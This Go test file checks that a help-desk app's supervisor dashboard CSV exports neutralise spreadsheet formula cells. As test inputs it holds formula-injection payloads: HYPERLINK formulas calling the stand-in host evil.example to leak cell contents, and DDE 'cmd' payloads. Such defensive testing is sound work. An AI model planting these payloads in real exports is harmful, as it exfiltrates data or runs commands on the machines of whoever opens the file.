package web

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/loopdesk/loopdesk/internal/staff"
	"github.com/loopdesk/loopdesk/web/views"
)

// CSV exports neutralise formula cells (security issue #10, finding 12).

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","open")`, `'=HYPERLINK("http://evil.example","open")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"=", "'="},
		{"-3", "-3"}, // plain numbers keep their sign
		{"+4", "+4"},
		{"-12.5", "-12.5"},
		{"12.5", "12.5"},
		{"-1e9", "'-1e9"},
		{"Aino Virtanen", "Aino Virtanen"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"", ""},
		{"—", "—"},
	}
	for _, tc := range tests {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestDashboardCSVNeutralisesFormulas renames a rep and the labels a
// supervisor sees to formulas and downloads every section.
func TestDashboardCSVNeutralisesFormulas(t *testing.T) {
	e, data := dashboardEnv(t)
	ctx := t.Context()
	formulas := map[int64]string{
		data.Aino:   `=HYPERLINK("http://evil.example/?leak="&A1,"Aino")`,
		data.Binh:   "@SUM(1+1)*cmd|' /C calc'!A0",
		data.Chitra: "-2+3+cmd",
	}
	for id, name := range formulas {
		if _, err := e.srv.db.Exec(ctx, `UPDATE users SET name = $2 WHERE id = $1`, id, name); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.srv.reports.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	c := e.login(staff.RoleSupervisor)
	found := 0
	for _, section := range []string{views.DashSummary, views.DashDaily, views.DashBacklog, views.DashSLA, views.DashReasons, views.DashReps} {
		res := e.get(c, "/supervisor/dashboard.csv?"+weekQuery(0)+"&section="+section)
		wantCode(t, res, http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", section, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
					t.Errorf("%s: formula cell %q", section, cell)
				}
				for _, f := range formulas {
					if cell == "'"+f {
						found++
					}
				}
			}
		}
	}
	if found < len(formulas) {
		t.Fatalf("found %d of the %d renamed reps, quoted, in the CSVs", found, len(formulas))
	}
}
